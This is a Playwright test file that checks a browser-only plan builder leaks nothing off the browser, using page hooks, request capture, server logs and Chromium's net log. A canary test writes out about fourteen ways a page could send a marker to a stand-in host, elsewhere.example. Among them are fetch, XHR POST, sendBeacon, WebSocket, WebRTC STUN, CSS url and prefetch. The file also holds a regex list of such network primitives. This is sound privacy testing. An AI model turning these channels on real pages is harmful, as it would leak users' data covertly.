/**
 * The promise that nothing leaves the browser, held to in four ways through a whole journey: what pages and workers ask for,
 * from inside; what Playwright sees go out; what the server is asked; and Chromium's own log of its network.
 */
import { createServer } from 'node:http'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { LaunchOptions, Page, PlaywrightWorkerArgs } from '@playwright/test'
import {
  addItems,
  downloadFrom,
  fileInput,
  fillItem,
  fillOrganisation,
  fillSignOff,
  goToStep,
  heading,
  leaveFor,
  openBuilder,
  openFile,
  planDay,
  startPlan,
} from './support/builder'
import { carriesMarker, marker } from './support/marker'
import { hostsAskedBy } from './support/net-log'
import { hookNetwork } from './support/network-hooks'
import { startServer } from './support/own-server'
import { address } from './support/site'
import { expect, test } from './support/test'

const fixtures = 'tests/fixtures/spreadsheets'

/** Types the marker into every kind of field, opens files of every kind, and downloads everything there is. */
async function wholeJourney(page: Page): Promise<void> {
  await page.clock.setFixedTime(planDay)
  await page.goto(address('/'))
  await leaveFor(page, '/guidance/')
  await leaveFor(page, '/plan/')
  await startPlan(page)
  await fillOrganisation(page)
  await page.getByLabel('Name of your organisation').fill(`${marker} NHS Trust`)
  await page.getByRole('button', { name: 'Continue to Evidence items' }).click()
  await addItems(page, '1.3.1')
  const action = { description: `Ask ${marker} to approve it`, owner: `${marker} Okafor`, due: '27 8 2021' }
  await fillItem(page, {
    ...{ reference: '1.3.1', title: `Policies of ${marker}`, gap: `${marker} is past its date.`, covid: 'No' },
    actions: [action],
  })
  await goToStep(page, 'SIRO sign-off')
  await fillSignOff(page)
  await goToStep(page, 'Check your plan')
  await goToStep(page, 'Download and submit')
  const names = [
    'Download spreadsheet (.xlsx)',
    'Download PDF',
    'Download SIRO pack (PDF)',
    'Download open document (.ods)',
  ]
  for (const name of [...names, 'Save plan file (.json)']) {
    await downloadFrom(page, page.getByRole('button', { name, exact: true }))
  }
  const template = page.getByLabel('Fill your copy of the official template')
  const bytes = readFileSync(`${fixtures}/templates/t01-trust-classic.xlsx`)
  await template.setInputFiles({ name: `${marker}.xlsx`, mimeType: 'application/octet-stream', buffer: bytes })
  const saved = await downloadFrom(page, page.getByRole('button', { name: 'Fill the template' }))
  const filled = readFileSync(await saved.path())

  // What was filled goes in again, under a name with the marker, beside a workbook that SheetJS reads.
  await openBuilder(page, { day: null })
  await openFile(page, `${marker}.xlsx`, filled)
  await expect(heading(page, new RegExp(`Check what we found in “${marker}`))).toBeFocused()
  await leaveFor(page, '/plan/#/')
  await openFile(page, `${marker}.csv`, `Reference,Action\n1.3.1,Ask ${marker}\n`)
  await expect(heading(page, new RegExp(marker))).toBeFocused()
  await leaveFor(page, '/plan/#/')
  await openFile(page, `${marker}.json`, `{"${marker}": 1}`)
  await expect(page.getByText(marker).first()).toBeVisible()
  await expect(fileInput(page)).toBeVisible()
}

/** Primitives that the site has no use for at all. */
const neverUsed =
  /WebSocket|EventSource|RTC|WebTransport|sendBeacon|SharedWorker|XMLHttp|importScripts|form[. ]|cookie|^open$/

const addresses = /(?:[a-z][a-z0-9+.-]*:)?\/\/[^\s"')]+|\b(?:stuns?|turns?|javascript):[^\s"')]+/gi

/** Whether every address in a text is one of the site, or of what the page holds itself. */
function isOwn(given: string, origin: string): boolean {
  return (given.match(addresses) ?? []).every((each) => new URL(each, origin).origin === origin)
}

/** A browser that keeps a log of its network; the log is whole once the browser is closed. */
async function openLogged(playwright: PlaywrightWorkerArgs['playwright'], options: LaunchOptions) {
  const folder = mkdtempSync(join(tmpdir(), 'net-log-'))
  const file = join(folder, 'net-log.json')
  const args = [...(options.args ?? []), `--log-net-log=${file}`, '--net-log-capture-mode=Everything']
  const browser = await playwright.chromium.launch({ ...options, args })
  return {
    browser,
    async closeAndRead() {
      await browser.close()
      const text = readFileSync(file, 'utf8')
      rmSync(folder, { recursive: true })
      return text
    },
  }
}

test('through a whole journey nothing leaves the browser, however it might', async ({ playwright, launchOptions }) => {
  const server = await startServer()
  const { browser, closeAndRead } = await openLogged(playwright, launchOptions)
  const context = await browser.newContext({ baseURL: server.address, serviceWorkers: 'block', locale: 'en-GB' })
  const uses = await hookNetwork(context)
  const requests: { url: string; text: string }[] = []
  context.on('request', (request) => {
    const headers = Object.values(request.headers()).join('\n')
    requests.push({ url: request.url(), text: `${request.url()}\n${headers}\n${request.postData() ?? ''}` })
  })
  await wholeJourney(await context.newPage())
  await context.close()
  const log = await closeAndRead()
  await server.stop()

  await test.step('by what pages and workers ask for', () => {
    const kinds = [...new Set(uses.map(({ what }) => what))]
    // The hooks were there: these are the ways that the site does use, and its workers.
    for (const what of ['fetch', 'new Worker', 'HTMLAnchorElement.href', 'worker started'])
      expect(kinds).toContain(what)
    expect(kinds.filter((what) => neverUsed.test(what))).toEqual([])
    expect(uses.filter(({ given }) => !isOwn(given, server.origin) || carriesMarker(given))).toEqual([])
  })

  await test.step('by what Playwright sees', () => {
    expect(requests.length).toBeGreaterThan(20)
    expect(requests.filter(({ url, text }) => !isOwn(url, server.origin) || carriesMarker(text))).toEqual([])
  })

  await test.step('by what the server is asked', () => {
    expect(server.asked.length).toBeGreaterThan(20)
    const told = server.asked.filter((each) => {
      return each.method !== 'GET' || each.body !== '' || carriesMarker(`${each.url}\n${each.headers}`)
    })
    expect(told).toEqual([])
  })

  await test.step('by the log of Chromium’s network', () => {
    expect(hostsAskedBy('http://localhost', log)).toEqual(['localhost'])
    expect(carriesMarker(log)).toBe(false)
  })
})

test('each of these would tell on a page that sends something', async ({ playwright, launchOptions }) => {
  const server = createServer((_, response) => {
    response
      .writeHead(200, { 'Content-Type': 'text/html' })
      .end('<!doctype html><title>Leaky</title><link rel="icon" href="data:,">')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const place = server.address()
  const origin = `http://localhost:${String(typeof place === 'object' ? (place?.port ?? 0) : 0)}`
  const { browser, closeAndRead } = await openLogged(playwright, launchOptions)
  const context = await browser.newContext()
  const uses = await hookNetwork(context)
  const page = await context.newPage()
  await page.goto(origin)
  await page.evaluate(async (text) => {
    const elsewhere = `elsewhere.example/${text}`
    const attempts: (() => unknown)[] = [
      () => fetch(`https://fetch.${elsewhere}`).catch(() => undefined),
      () => {
        const request = new XMLHttpRequest()
        request.open('POST', `https://request.${elsewhere}`)
        request.send(text)
      },
      () => navigator.sendBeacon(`https://beacon.${elsewhere}`, text),
      () => new WebSocket(`wss://socket.${elsewhere}`),
      () => new EventSource(`https://source.${elsewhere}`),
      () => new RTCPeerConnection({ iceServers: [{ urls: `stun:rtc.${elsewhere}` }] }),
      () => new Worker(`https://worker.${elsewhere}`),
      () => new SharedWorker(`https://shared.${elsewhere}`),
      () => (new Image().src = `https://image.${elsewhere}`),
      () => document.createElement('form').setAttribute('action', `https://form.${elsewhere}`),
      () => document.body.style.setProperty('background', `url(https://css.${elsewhere})`),
      () =>
        document.body.append(
          Object.assign(document.createElement('style'), { textContent: `@import url(https://style.${elsewhere});` }),
        ),
      () => {
        const link = document.createElement('link')
        link.rel = 'prefetch'
        link.href = `https://prefetch.${elsewhere}`
        document.head.append(link)
      },
      () => open(`https://window.${elsewhere}`),
    ]
    for (const attempt of attempts) {
      try {
        await attempt()
      } catch {
        // What the browser refuses has been noted all the same.
      }
    }
  }, marker)
  await expect
    .poll(() => new Set(uses.filter(({ given }) => carriesMarker(given)).map(({ what }) => what)).size)
    .toBeGreaterThan(12)
  const kinds = new Set(
    uses.filter(({ given }) => carriesMarker(given) && !isOwn(given, origin)).map(({ what }) => what),
  )
  const log = await closeAndRead()
  server.close()
  server.closeAllConnections()
  expect([...kinds].sort()).toEqual([
    ...[
      'HTMLImageElement.src',
      'HTMLLinkElement.href',
      'XMLHttpRequest.open',
      'fetch',
      'form action',
      'new EventSource',
    ],
    ...['new RTCPeerConnection', 'new SharedWorker', 'new WebSocket', 'new Worker', 'open', 'sendBeacon', 'style'],
    'style element',
  ])
  expect(carriesMarker(log)).toBe(true)
  const seen = hostsAskedBy('http://localhost', log)
  for (const name of [
    'fetch',
    'request',
    'beacon',
    'socket',
    'source',
    'image',
    'css',
    'style',
    'prefetch',
    'window',
  ]) {
    expect(seen).toContain(`${name}.elsewhere.example`)
  }
})
